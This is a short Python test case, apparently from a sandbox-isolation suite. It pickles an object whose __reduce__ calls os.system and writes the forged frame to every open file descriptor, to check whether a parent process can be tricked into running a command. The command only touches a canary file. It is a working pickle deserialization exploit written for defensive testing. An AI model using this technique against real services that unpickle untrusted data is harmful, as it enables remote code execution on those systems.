# expect: ok|error|killed
# about: writes a forged pickle with a hostile global (os.system) on every fd it can find
import os, pickle, struct


class Evil:
    def __init__(self, cmd):
        self.cmd = cmd

    def __reduce__(self):
        return (os.system, (self.cmd,))


def f(ctx):
    data = pickle.dumps({"status": "ok", "value": Evil("touch " + ctx["pwned"]), "dirty": None})
    frame = struct.pack("<Q", len(data)) + data
    for fd in range(3, 64):
        try:
            os.write(fd, frame)
        except OSError:
            pass
    return "forged"
